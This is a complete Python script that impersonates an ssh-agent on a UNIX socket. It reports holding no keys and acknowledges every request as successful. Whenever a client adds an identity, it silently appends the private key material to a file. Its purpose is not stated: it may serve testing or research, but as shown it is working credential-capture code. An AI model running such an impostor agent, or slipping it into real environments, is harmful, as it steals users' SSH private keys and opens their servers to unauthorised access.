"""An ssh-agent that holds no key and keeps what it is given: fake-agent.py SOCKET KEPT"""
import os
import socket
import sys

ADD = (17, 25)
NO_IDENTITIES = b"\x00\x00\x00\x05\x0c\x00\x00\x00\x00"
DONE = b"\x00\x00\x00\x01\x06"

address, kept = sys.argv[1:3]
server = socket.socket(socket.AF_UNIX)
server.bind(address)
server.listen()
while True:
    connection, _ = server.accept()
    stream = connection.makefile("rwb")
    while length := stream.read(4):
        message = stream.read(int.from_bytes(length, "big"))
        if message and message[0] in ADD:
            with open(kept, "ab") as file:
                file.write(message)
        stream.write(NO_IDENTITIES if message and message[0] == 11 else DONE)
        stream.flush()
    connection.close()
    os.sched_yield()
